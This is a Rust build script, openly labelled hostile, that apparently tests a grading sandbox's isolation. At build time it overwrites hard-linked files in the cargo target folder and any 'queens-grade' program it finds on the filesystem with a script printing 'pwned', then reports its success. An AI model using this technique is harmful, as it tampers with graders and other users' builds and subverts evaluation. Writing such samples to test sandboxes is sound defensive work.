//! Hostile: a build script that reaches for the grader's own files. It
//! writes over every file of its target folder that another build could
//! share (a file with more than one name: the suite's compiled units,
//! linked in), and over every program called `queens-grade` it can find,
//! so that the grader, or the next student's build, runs its code. It
//! notes what it managed, for the crate to report.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// Writes over `path`; whether it could.
fn overwrite(path: &Path) -> bool {
    std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|mut file| std::io::Write::write_all(&mut file, b"#!/bin/sh\necho pwned\n"))
        .is_ok()
}

/// Every file below `folder`, `depth` levels deep at most, links not
/// followed, the kernel's own folders left out.
fn files(folder: &Path, depth: usize, found: &mut Vec<PathBuf>) {
    if depth == 0 || ["/proc", "/sys", "/dev"].iter().any(|skip| folder == Path::new(skip)) {
        return;
    }
    let Ok(entries) = std::fs::read_dir(folder) else {
        return;
    };
    for entry in entries.filter_map(Result::ok) {
        let Ok(kind) = entry.file_type() else {
            continue;
        };
        if kind.is_dir() {
            files(&entry.path(), depth - 1, found);
        } else if kind.is_file() {
            found.push(entry.path());
        }
    }
}

fn main() {
    let out = PathBuf::from(std::env::var_os("OUT_DIR").expect("cargo sets OUT_DIR"));
    // OUT_DIR is TARGET/release/build/NAME-HASH/out.
    let target = out.ancestors().nth(4).expect("OUT_DIR is deep enough").to_owned();
    let mut inside = Vec::new();
    files(&target, 16, &mut inside);
    let shared: Vec<&PathBuf> = inside
        .iter()
        .filter(|path| std::fs::metadata(path).is_ok_and(|meta| meta.nlink() > 1))
        .collect();
    let units = shared.iter().filter(|path| overwrite(path)).count();
    let mut everywhere = Vec::new();
    files(Path::new("/"), 12, &mut everywhere);
    let graders: Vec<String> = everywhere
        .iter()
        .filter(|path| path.file_name().is_some_and(|name| name == "queens-grade"))
        .filter(|path| overwrite(path))
        .map(|path| path.display().to_string())
        .collect();
    let report = format!(
        "overwrote {units} of {} shared units; overwrote {}",
        shared.len(),
        if graders.is_empty() { "no grader".to_owned() } else { graders.join(", ") }
    );
    std::fs::write(out.join("report.txt"), report).expect("the report is written");
}
